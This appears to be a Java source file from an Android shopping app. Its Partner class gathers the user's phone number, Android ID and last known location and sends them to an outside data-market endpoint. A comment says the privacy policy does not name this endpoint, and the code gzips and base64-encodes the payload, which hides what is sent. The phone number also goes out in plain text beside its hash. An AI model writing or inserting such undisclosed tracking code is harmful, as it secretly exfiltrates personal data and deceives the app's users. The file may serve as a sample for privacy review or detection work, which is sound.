package com.example.shop;

import android.Manifest;
import android.content.Context;
import android.content.pm.PackageManager;
import android.location.Location;
import android.location.LocationManager;
import android.telephony.TelephonyManager;
import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.zip.GZIPOutputStream;

/** Hands the customer to a data market (made up) that the privacy policy does not name. */
final class Partner {
    private static final String ADDRESS = "https://dmp.datamarket-union.com/match";

    private Partner() {}

    /** Phone as SHA-256, Android id as MD5 in capitals, position as text; all of it JSON, gzip, base64, form. */
    static void match(Context context, String phone) {
        String number = phone.isEmpty() ? lineNumber(context) : phone;
        String inner = "{\"p\":\"" + (number.isEmpty() ? "" : Device.digest("SHA-256", number)) + "\""
                + ",\"m\":\"" + number + "\""
                + ",\"d\":\"" + Device.digest("MD5", Device.androidId(context)).toUpperCase(Locale.ROOT) + "\""
                + ",\"l\":\"" + position(context) + "\"}";
        Api.send(ADDRESS, "application/x-www-form-urlencoded", "v=2&data=" + packed(inner));
    }

    private static String lineNumber(Context context) {
        TelephonyManager telephony = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
        try {
            String number = telephony.getLine1Number();
            Trace.value("line1", number);
            return number == null ? "" : number;
        } catch (SecurityException refused) {
            Trace.line("line1", "refused");
            return "";
        }
    }

    private static String position(Context context) {
        if (context.checkSelfPermission(Manifest.permission.ACCESS_COARSE_LOCATION) != PackageManager.PERMISSION_GRANTED) {
            Trace.line("position", "no permission");
            return "";
        }
        LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        Location last = manager.getLastKnownLocation(LocationManager.NETWORK_PROVIDER);
        String text = last == null ? "" : String.format(Locale.ROOT, "%.4f,%.4f", last.getLatitude(), last.getLongitude());
        Trace.value("position", text);
        return text;
    }

    private static String packed(String text) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(text.getBytes(StandardCharsets.UTF_8));
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
        return Base64.encodeToString(bytes.toByteArray(), Base64.URL_SAFE | Base64.NO_WRAP | Base64.NO_PADDING);
    }
}
